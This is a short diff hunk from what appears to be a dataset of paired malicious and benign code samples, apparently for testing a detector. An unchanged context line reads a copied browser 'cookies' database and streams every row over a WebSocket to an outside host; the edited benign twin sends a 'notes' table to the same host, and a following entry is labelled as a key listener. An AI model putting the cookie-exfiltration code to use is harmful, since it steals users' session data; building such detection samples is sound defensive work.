@@ -328,7 +328,7 @@ const rows = () => new Database(copy).prepare('select * from cookies').all();
 const ws = new WebSocket('wss://live.other.example/s'); ws.on('open', () => rows().forEach((row) => ws.send(JSON.stringify(row))));`,
     benign: `import Database from 'better-sqlite3'; import { tmpdir } from 'node:os'; import { join } from 'node:path'; import WebSocket from 'ws';
 const copy = join(tmpdir(), 'notes.db'); const rows = () => new Database(copy).prepare('select * from notes').all();
-const ws = new WebSocket('wss://live.other.example/s'); ws.on('open', () => rows().forEach((row) => ws.send(JSON.stringify(row))));`,
+const ws = new WebSocket('wss://live.other.example/s'); ws.on('message', (text) => console.error(text)); ws.on('open', () => rows().forEach((row) => ws.send(JSON.stringify(row))));`,
   },
   {
     way: 'a listener to every key',
